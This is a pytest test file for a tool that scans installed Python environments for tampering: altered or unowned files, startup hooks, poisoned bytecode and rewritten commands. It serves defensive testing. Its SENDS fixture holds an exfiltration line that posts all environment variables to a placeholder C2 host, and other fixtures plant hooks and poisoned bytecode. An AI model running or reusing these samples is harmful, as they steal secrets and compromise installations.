"""An environment looked into: what is as it was brought is clean, and each way to change it is found."""

import base64
import hashlib
import os
import platform
import struct
from collections.abc import AsyncIterator, Callable
from importlib.util import cache_from_source
from pathlib import Path

import pytest
import pytest_asyncio

from pratique.adapters.confined import Confined
from pratique.adapters.installed.environment import environment_at, environment_of
from pratique.adapters.installed.kept import engine
from pratique.adapters.installed.look import InstalledLook
from pratique.errors import InvalidInput
from pratique.facts.looked import Looked, Outcome
from pratique.model import limits
from pratique.model.artifact import Digest
from pratique.model.evidence import Alarm, Scan, Unknown
from tests.adapters.fake_environment import FakeEnvironment

pytestmark = pytest.mark.asyncio(loop_scope="module")

HOOK = "import calmlook; calmlook.start()\n"
SENDS = """\
import json, os, urllib.request
urllib.request.urlopen("https://c2.example.invalid/", data=json.dumps(dict(os.environ)).encode())
"""
VALUE = {"calmlook/__init__.py": "def answer(given):\n    value = given\n    return value\n"}


@pytest.fixture
def fake(tmp_path: Path) -> FakeEnvironment:
    fake = FakeEnvironment(tmp_path / "env")
    fake.install("calmlook", files=VALUE, commands={"calm": "calmlook:answer"})
    fake.install("otherlook")
    return fake


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def confined() -> AsyncIterator[Confined]:
    confined = Confined()
    yield confined
    await confined.close()


class Looks:
    """Looks into the fake environment, again and again."""

    def __init__(self, fake: FakeEnvironment, confined: Confined, kept_in: Path) -> None:
        self.fake = fake
        self.confined = confined
        self.kept_in = kept_in
        self.notes: list[str] = []
        self.unchanged = 0

    async def all(self, *, thorough: bool = False) -> dict[str, Looked]:
        look = InstalledLook(environment_at(self.fake.prefix), self.confined, self.kept_in, "env", thorough)
        found = {each.path: each async for each in look.looked()}
        self.notes, self.unchanged = look.notes, look.unchanged
        return found

    async def found(self, *, thorough: bool = False) -> set[tuple[str, str]]:
        """Every finding and every file that was not read: what it is called, and where."""
        looked = (await self.all(thorough=thorough)).values()
        assert not any(isinstance(each.scan, Unknown) for each in looked)
        found = {(each.finding.rule, each.finding.path) for one in looked for each in one.noticed}
        unread = {("unread", u.path) for one in looked if isinstance(one.scan, Scan) for u in one.scan.coverage.unread}
        return found | unread

    def told(self, path: str) -> str:
        return f"lib/{self.fake.site.parent.name}/site-packages/{path}"


@pytest.fixture
def looks(fake: FakeEnvironment, confined: Confined, tmp_path: Path) -> Looks:
    return Looks(fake, confined, tmp_path / "kept")


async def test_what_is_as_it_was_brought_is_clean(looks: Looks) -> None:
    looked = await looks.all()
    assert {each.outcome for each in looked.values()} == {Outcome.CLEAN}
    assert [each.path for each in looked.values() if each.noticed] == []
    calm = looked["calmlook 1.0"].scan
    assert isinstance(calm, Scan)
    assert calm.coverage.read["byte code"] == 1
    assert "limits" in calm.confinement


async def test_an_altered_module_is_found(looks: Looks) -> None:
    (looks.fake.site / "otherlook/__init__.py").write_text("VERSION = '1.1'\n")
    looked = await looks.all()
    assert looked["otherlook 1.0"].outcome is Outcome.SUSPICIOUS
    assert [(each.finding.rule, each.finding.path) for each in looked["otherlook 1.0"].noticed] == [
        ("altered-file", looks.told("otherlook/__init__.py"))
    ]
    assert looked["calmlook 1.0"].outcome is Outcome.CLEAN


async def test_a_file_that_two_have_brought_is_as_either_says(looks: Looks) -> None:
    looks.fake.install("firstlook", files={"shared/__init__.py": "A = 1\n"})
    looks.fake.install("secondlook", files={"shared/__init__.py": "B = 2\n"})
    assert await looks.found() == set()


async def test_what_is_gone_and_what_nobody_brought_are_remarks(looks: Looks) -> None:
    (looks.fake.site / "otherlook/__init__.py").unlink()
    (looks.fake.site / "stray.py").write_text("A = 1\n")
    (looks.fake.site / "notes.txt").write_text("hello\n")
    assert await looks.found() == {
        ("missing-file", looks.told("otherlook/__init__.py")),
        ("unowned-file", looks.told("stray.py")),
    }
    assert {each.outcome for each in (await looks.all()).values()} == {Outcome.CLEAN}


@pytest.mark.parametrize("name", ["zz_hook.pth", "sitecustomize.py", "usercustomize.py", "zz_hook.start"])
async def test_code_that_every_start_would_run_is_found(looks: Looks, name: str) -> None:
    (looks.fake.site / name).write_text("calmlook:answer\n" if name.endswith(".start") else HOOK)
    (unowned,) = [each for each in (await looks.all()).values() if each.outcome is not Outcome.CLEAN]
    alarms = {(each.finding.rule, each.finding.path) for each in unowned.noticed if each.alarm is not Alarm.NONE}
    assert ("startup-hook", looks.told(name)) in alarms
    assert ("unowned-file", looks.told(name)) in {(each.finding.rule, each.finding.path) for each in unowned.noticed}


async def test_poisoned_byte_code_is_found_and_names_what_its_source_has_not(looks: Looks) -> None:
    cached = looks.fake.poison("calmlook/__init__.py", "def answer(given):\n    return 'POISONED'\n")
    looked = (await looks.all())["calmlook 1.0"]
    assert looked.outcome is Outcome.MALICIOUS
    (noticed,) = looked.noticed
    assert (noticed.finding.rule, noticed.finding.path) == (
        "foreign-byte-code",
        looks.told(f"calmlook/__pycache__/{cached.name}"),
    )
    assert "POISONED" in noticed.finding.message


async def test_byte_code_of_the_sources_own_words_is_found(looks: Looks) -> None:
    looks.fake.poison("calmlook/__init__.py", "def answer(value):\n    given = value\n    return value\n")
    looked = (await looks.all())["calmlook 1.0"]
    assert (looked.outcome, looked.noticed[0].finding.rule) == (Outcome.SUSPICIOUS, "foreign-byte-code")


async def test_byte_code_from_before_the_record_is_compared_by_names_and_thoroughly_when_asked(looks: Looks) -> None:
    fake = looks.fake
    fake.poison("calmlook/__init__.py", "def answer(given):\n    return None\n")
    fake.record_again("calmlook")
    assert await looks.found() == set()
    assert {rule for rule, _ in await looks.found(thorough=True)} == {"foreign-byte-code"}
    fake.poison("calmlook/__init__.py", "import posix\nposix.getcwd()\n")
    fake.record_again("calmlook")
    assert {rule for rule, _ in await looks.found()} == {"foreign-byte-code"}


async def test_byte_code_that_python_passes_over_is_no_finding(looks: Looks) -> None:
    cached = looks.fake.poison("calmlook/__init__.py", "POISON = 1\n")
    data = bytearray(cached.read_bytes())
    data[8:12] = struct.pack("<I", 1)  # the time of another source
    cached.write_bytes(data)
    assert await looks.found() == set()


async def test_byte_code_that_is_believed_without_a_look_at_the_source_is_compared(looks: Looks) -> None:
    looks.fake.poison("calmlook/__init__.py", "POISON = 1\n", flags=1)
    assert {rule for rule, _ in await looks.found()} == {"foreign-byte-code"}
    looks.fake.poison("calmlook/__init__.py", "POISON = 1\n", flags=3)
    assert await looks.found() == set(), "its hash is not that of the source, and so Python compiles that"


@pytest.mark.parametrize("damage", [b"", b"\xe3\x00", b"N", b"\xff" * 400])
async def test_damaged_byte_code_is_unread_or_foreign_and_hurts_nobody(looks: Looks, damage: bytes) -> None:
    cached = looks.fake.poison("calmlook/__init__.py", "A = 1\n")
    cached.write_bytes(cached.read_bytes()[:16] + damage)
    looked = await looks.all()
    assert looked["calmlook 1.0"].outcome is not Outcome.CLEAN
    assert looked["otherlook 1.0"].outcome is Outcome.CLEAN


async def test_byte_code_of_another_python_is_told_and_is_not_clean(looks: Looks) -> None:
    cached = looks.fake.poison("calmlook/__init__.py", "A = 1\n")
    cached.write_bytes(b"\x01\x02\r\n" + cached.read_bytes()[4:])
    looked = await looks.all()
    scan = looked["byte code"].scan
    assert isinstance(scan, Unknown)
    assert "1 files of byte code are those of another Python" in scan.why


async def test_a_difference_that_names_nothing_counts_less_where_another_release_compiled(looks: Looks) -> None:
    config = looks.fake.prefix / "pyvenv.cfg"
    config.write_text(config.read_text().replace(platform.python_version(), "3.11.0"))
    looks.fake.poison("calmlook/__init__.py", "def answer(value):\n    given = value\n    return value\n")
    looked = (await looks.all())["calmlook 1.0"]
    assert (looked.outcome, looked.noticed[0].finding.rule) == (Outcome.CLEAN, "foreign-byte-code")


async def test_a_command_that_starts_something_else_is_found_even_where_record_agrees(looks: Looks) -> None:
    command = looks.fake.commands / "calm"
    command.write_text("#!python\nimport zlib\n")
    record = looks.fake.site / "calmlook-1.0.dist-info/RECORD"
    record.write_text("".join(line for line in record.read_text().splitlines(keepends=True) if "bin/calm" not in line))
    record.write_text(f"{record.read_text()}../../../bin/calm,,\n")
    assert await looks.found() == {("changed-command", "bin/calm")}


async def test_a_command_nobody_brought_is_looked_into(looks: Looks) -> None:
    (looks.fake.commands / "activate_this.py").write_text(SENDS)
    (unowned,) = [each for each in (await looks.all()).values() if each.outcome is not Outcome.CLEAN]
    assert {each.finding.path for each in unowned.noticed if each.alarm is not Alarm.NONE} == {"bin/activate_this.py"}


@pytest.mark.parametrize(
    ("record", "why"),
    [
        (None, "its RECORD cannot be read"),
        (b"\xff\xfe", "it cannot be read as a RECORD"),
        (b"a,sha256=!" + b"x" * 200_000, "it cannot be read as a RECORD"),
    ],
)
async def test_without_a_record_nothing_is_said_to_be_as_it_was(looks: Looks, record: bytes | None, why: str) -> None:
    place = looks.fake.site / "otherlook-1.0.dist-info/RECORD"
    place.unlink()
    if record is not None:
        place.write_bytes(record)
    looked = (await looks.all())["otherlook 1.0"]
    assert looked.outcome is Outcome.UNKNOWN
    assert isinstance(looked.scan, Scan)
    assert why in looked.scan.coverage.unread[-1].why


async def test_a_record_leads_nowhere_out_of_the_environment(looks: Looks, tmp_path: Path) -> None:
    (tmp_path / "secret.py").write_text("A = 1\n")
    record = looks.fake.site / "otherlook-1.0.dist-info/RECORD"
    up = "../" * 4
    record.write_text(f"{record.read_text()}{up}secret.py,sha256=AAAA,1\n{tmp_path}/secret.py,sha256=AAAA,1\n")
    assert await looks.found() == set()


async def test_pipes_links_and_devices_are_not_waited_for(looks: Looks) -> None:
    os.mkfifo(looks.fake.site / "pipe.py")
    (looks.fake.site / "link.py").symlink_to("/dev/zero")
    assert {outcome.outcome for outcome in (await looks.all()).values()} == {Outcome.CLEAN}


async def test_what_leads_elsewhere_is_told(looks: Looks, tmp_path: Path) -> None:
    (tmp_path / "source").mkdir()
    looks.fake.install("placelook", files={"placelook.pth": f"{tmp_path}/source\n"})
    told = '{"url": "file:///x", "dir_info": {"editable": true}}'
    (looks.fake.site / "placelook-1.0.dist-info/direct_url.json").write_text(told)
    assert (await looks.all())["placelook 1.0"].outcome is Outcome.CLEAN
    assert looks.notes == [
        "placelook 1.0 is used in place: its folder is not looked into",
        f"{looks.told('placelook.pth')} adds {tmp_path}/source, which is not looked into",
    ]


async def test_only_the_hook_of_virtualenv_itself_is_known(looks: Looks) -> None:
    (looks.fake.site / "_virtualenv.pth").write_text("import _virtualenv")
    (looks.fake.site / "_virtualenv.py").write_text("A = 1\n")
    assert ("startup-hook", looks.told("_virtualenv.pth")) in await looks.found()


async def test_nothing_that_stayed_as_it_was_is_looked_into_again(
    looks: Looks, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(limits, "BLOB_SETTLED_SECONDS", -1.0)
    first = await looks.all()
    assert looks.unchanged == 0
    await looks.confined.close()
    assert await looks.all() == first
    assert looks.unchanged == len(first)
    assert looks.confined._zygote is None, "nothing was started for it"  # noqa: SLF001 - the test looks behind the wall
    os.utime(looks.fake.site / "otherlook-1.0.dist-info/METADATA")
    assert await looks.all() == first
    assert (looks.unchanged, looks.confined._zygote) == (len(first) - 1, None), "its bytes are the same"  # noqa: SLF001 - the same
    (looks.fake.site / "otherlook/__init__.py").write_text("VERSION = '1.0'  \n")
    assert (await looks.all())["otherlook 1.0"].outcome is Outcome.SUSPICIOUS
    assert (looks.unchanged, looks.confined._zygote is None) == (len(first) - 1, False)  # noqa: SLF001 - the same


async def test_what_lies_elsewhere_is_seen_to_change_too(looks: Looks, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "BLOB_SETTLED_SECONDS", -1.0)
    place = looks.fake.prefix / "share/calmlook/run.py"
    place.parent.mkdir(parents=True)
    place.write_text("A = 1\n")
    digest = base64.urlsafe_b64encode(hashlib.sha256(place.read_bytes()).digest()).rstrip(b"=").decode()
    record = looks.fake.site / "calmlook-1.0.dist-info/RECORD"
    record.write_text(f"{record.read_text()}../../../share/calmlook/run.py,sha256={digest},6\n")
    assert await looks.found() == set()
    assert (await looks.found(), looks.unchanged) == (set(), 3)
    place.write_text("A = 2\n")
    assert await looks.found() == {("altered-file", "share/calmlook/run.py")}
    place.unlink()
    assert await looks.found() == {("missing-file", "share/calmlook/run.py")}


async def test_what_other_rules_saw_is_not_believed(looks: Looks, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "BLOB_SETTLED_SECONDS", -1.0)
    first = await looks.all()
    monkeypatch.setattr(looks.confined, "rules", Digest("sha256:" + "0" * 64))
    assert ((await looks.all()).keys(), looks.unchanged) == (first.keys(), 0)
    assert engine(looks.confined.rules) != engine(Digest("sha256:" + "1" * 64))


async def test_what_is_written_at_this_moment_is_not_remembered(looks: Looks) -> None:
    await looks.all()
    await looks.all()
    assert looks.unchanged == 0


async def test_what_is_kept_may_be_damaged_or_impossible_to_write(
    looks: Looks, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(limits, "BLOB_SETTLED_SECONDS", -1.0)
    first = await looks.all()
    (kept,) = looks.kept_in.iterdir()
    kept.write_bytes(kept.read_bytes()[:100])
    assert ((await looks.all()).keys(), looks.unchanged) == (first.keys(), 0)
    looks.kept_in = tmp_path / "file"
    looks.kept_in.write_text("")
    await looks.all()
    assert looks.notes[-1].startswith("nothing is kept for the next time")


def optimised(fake: FakeEnvironment) -> None:
    cached = fake.poison("calmlook/__init__.py", "def answer(given):\n    return 'POISONED'\n")
    cached.rename(Path(cache_from_source(str(fake.site / "calmlook/__init__.py"), optimization="1")))


@pytest.mark.parametrize("poison", [optimised])
async def test_optimised_byte_code_is_compared_too(looks: Looks, poison: Callable[[FakeEnvironment], None]) -> None:
    poison(looks.fake)
    assert {rule for rule, _ in await looks.found()} == {"foreign-byte-code"}


async def test_an_environment_is_found_by_its_interpreter_without_running_it(
    fake: FakeEnvironment, tmp_path: Path
) -> None:
    assert environment_of(fake.commands / "python") == environment_at(fake.prefix)
    assert environment_at(fake.prefix).release == platform.python_version()
    with pytest.raises(InvalidInput, match="is no environment of Python"):
        environment_at(tmp_path)
    with pytest.raises(InvalidInput, match="there is no"):
        environment_of(tmp_path / "bin/python")
